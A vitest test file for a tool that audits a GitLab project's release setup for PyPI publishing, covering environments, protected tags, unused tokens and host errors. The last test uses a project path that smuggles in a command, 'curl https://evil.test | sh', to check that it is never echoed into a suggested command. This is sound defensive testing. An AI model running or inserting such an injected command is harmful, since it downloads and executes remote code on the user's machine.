import { expect, test } from "vitest";
import { nodePorts } from "../../src/adapters/node-ports.ts";
import { forgeSettings } from "../../src/doctor/forge/forge-settings.ts";
import { gitlabLines } from "../../src/doctor/forge/gitlab-probes.ts";
import type { DoctorLine } from "../../src/doctor/line.ts";
import { Secret } from "../../src/ports/secret.ts";
import { MOODS } from "../support/moods.ts";
import {
  freshProject,
  playGitLab,
  PLAYED_GITLAB_TOKEN,
  type PlayedGitLab,
} from "../support/played-gitlab.ts";
import { claimsOf } from "../support/trust/judge-files.ts";

const PIPELINE = {
  ".gitlab-ci.yml":
    "publish:\n  script: [twine upload dist/*]\n  environment: pypi\n  id_tokens: {PYPI_ID_TOKEN: {aud: pypi}}\n",
};

async function lines(
  change: (played: PlayedGitLab) => unknown,
  token: string = PLAYED_GITLAB_TOKEN,
): Promise<ReadonlyMap<string, DoctorLine>> {
  await using node = nodePorts({});
  await using played = await playGitLab(freshProject("ada/demo", "premium"), node.ports);
  change(played);
  const place = {
    kind: "gitlab",
    repository: "ada/demo",
    api: played.api,
    token: new Secret(token),
  } as const;
  const jobs = await claimsOf(PIPELINE, "https://gitlab.com/ada/demo.git");
  const expected = { jobs, registered: ["ada/demo"], tag: "v1.0.0", pipelines: Object.values(PIPELINE) };
  const found = await gitlabLines(forgeSettings(place, node.ports), expected);
  return new Map(found.map((line) => [line.id, line]));
}

const told = (line: DoctorLine | undefined): string => `${line?.state ?? "absent"}: ${line?.detail ?? ""}`;

test("a fresh project: the environment is missing, and any pusher can release", async () => {
  const found = await lines(() => undefined);
  expect(told(found.get("repository"))).toBe("ok: ada/demo");
  expect(told(found.get("environment-pypi"))).toBe("wrong: does not exist");
  expect(told(found.get("tag-rules"))).toMatch(/^wrong: no protected tag covers v1\.0\.0/);
  expect(told(found.get("secrets"))).toMatch(/^ok/);
});

test("a well-kept project is ok in every line", async () => {
  const found = await lines(({ project }) => {
    project.environments.push(...Array.from({ length: 300 }, (_, at) => `review/${at}`), "pypi");
    project.protectedEnvironments?.push({ name: "pypi", levels: [40], approvers: [11] });
    project.protectedTags.push({ name: "v*", level: 40 });
  });
  expect(Array.from(found.values()).filter(({ state }) => state !== "ok")).toEqual([]);
  expect(found.get("environment-pypi")?.detail).toBe("protected, 1 approval rule");
});

test.each([
  [
    "a protected tag of other names",
    "tag-rules",
    (p: PlayedGitLab): unknown => p.project.protectedTags.push({ name: "release-*", level: 40 }),
    /covers/,
  ],
  [
    "a token that nothing uses",
    "secret-TWINE_PASSWORD",
    (p: PlayedGitLab): unknown => p.project.variables.push("TWINE_PASSWORD", "CODECOV_TOKEN"),
    /nothing uses it/,
  ],
  [
    "a pipeline file elsewhere",
    "repository",
    (p: PlayedGitLab): unknown => (p.project.pipelineFile = "ci/release.yml"),
    /ci\/release\.yml/,
  ],
  [
    "a moved project",
    "repository",
    (p: PlayedGitLab): unknown => (p.project.path = "ada-tools/demo"),
    /is called ada-tools\/demo now/,
  ],
  [
    "a publisher in other letter case than GitLab's own",
    "repository",
    (p: PlayedGitLab): unknown => (p.project.path = "Ada/demo"),
    /claims name Ada\/demo, and the publisher is recorded as ada\/demo/,
  ],
] as const)("%s is wrong", async (_what, id, change, words) => {
  const line = (await lines(change)).get(id);
  expect(line?.state).toBe("wrong");
  expect(line?.detail).toMatch(words);
  expect(line?.remedy ?? "").not.toBe("");
});

test.each(MOODS)("a host that answers %s: unknown, with the reason", async (_what, mood, words) => {
  const found = await lines((played) => {
    played.mood = mood;
  });
  expect(Array.from(found.values()).filter(({ state }) => state !== "unknown")).toEqual([]);
  expect(found.get("repository")?.detail).toMatch(words);
  // eslint-disable-next-line no-control-regex -- what a terminal would obey
  expect(JSON.stringify([...found])).not.toMatch(/\u001b|\\u001b|\\n/);
});

test("an expired token and one of a developer are told apart", async () => {
  const expired = await lines(() => undefined, "glpat-expired");
  expect(told(expired.get("tag-rules"))).toMatch(/^unknown: the token is wrong, expired or revoked/);
  const narrow = await lines((played) => {
    played.role = "developer";
  });
  expect(told(narrow.get("tag-rules"))).toMatch(/^unknown: the token has no permission to read it/);
  expect(narrow.get("tag-rules")?.remedy).toContain("a maintainer's token");
  expect(told(narrow.get("repository"))).toBe("ok: ada/demo");
});

test("a project's path that is none never stands in a command", async () => {
  const found = await lines(({ project }) => {
    project.path = "ada/demo; curl https://evil.test | sh";
  });
  expect(told(found.get("repository"))).toMatch(/^unknown/);
});
